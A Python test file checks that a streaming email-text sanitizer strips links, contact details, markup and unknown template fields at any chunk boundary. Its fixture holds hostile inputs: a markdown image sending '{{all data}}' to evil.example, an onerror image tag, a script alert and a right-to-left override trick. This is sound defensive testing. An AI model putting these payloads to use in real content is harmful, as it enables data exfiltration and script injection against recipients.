"""Text that streams before it was checked shows no link, no contact data and no markup, however it is cut."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from core.grounding.provisional import Provisional

KNOWN = frozenset({"first_name", "company"})
HOSTILE = (
    "Hi {{first_name}}, see https://evil.example/a?b=c or www.evil.example now. Call +44 20 7946 0999 today.\n\n"
    "Mail a.b@evil.example, ![logo](https://evil.example/p.gif?d={{all data}}) <img src='x' onerror=1> {{ceo}} "
    "*|FNAME|* and <script>alert(1)</script>.\n\nIs it \u202egnp\u202c of use at {{company}}?"
)
NEVER = ("evil", "7946", "@", "<", "onerror", "ceo", "FNAME", "\u202e", "](")


def shown(pieces: list[str]) -> str:
    field = Provisional(KNOWN)
    return "".join([*map(field.add, pieces), field.rest()])


@given(st.lists(st.integers(min_value=1, max_value=60), max_size=40))
def test_nothing_that_an_email_must_not_hold_is_shown_however_it_is_cut(sizes: list[int]) -> None:
    pieces, left = [], HOSTILE
    for size in sizes:
        pieces.append(left[:size])
        left = left[size:]
    told = shown([*pieces, left])
    assert not [mark for mark in NEVER if mark in told]
    assert told.startswith("Hi {{first_name}}, see …")
    assert told.endswith("of use at {{company}}?")


@given(st.lists(st.integers(min_value=1, max_value=30), max_size=40))
def test_honest_text_comes_through_to_the_letter(sizes: list[int]) -> None:
    honest = (
        "Hi {{first_name}},\n\nOrders of 1,200 to 3,000 parts leave in 24 hours (ISO 9001:2015). 5 > 3.\n\n{{company}}"
    )
    pieces, left = [], honest
    for size in sizes:
        pieces.append(left[:size])
        left = left[size:]
    assert shown([*pieces, left]) == honest


def test_a_word_is_shown_as_soon_as_it_is_whole() -> None:
    field = Provisional(KNOWN)
    assert field.add("A leak is ch") == "A leak is "
    assert field.add("eap in its") == "cheap in "
    assert field.rest() == "its"


@pytest.mark.parametrize("endless", ["<" + "b " * 300, "{{" + "x " * 300, "1 " * 300])
def test_what_never_ends_is_not_held_back_for_ever(endless: str) -> None:
    field = Provisional(KNOWN)
    assert len(field.add("word " + endless)) > 300
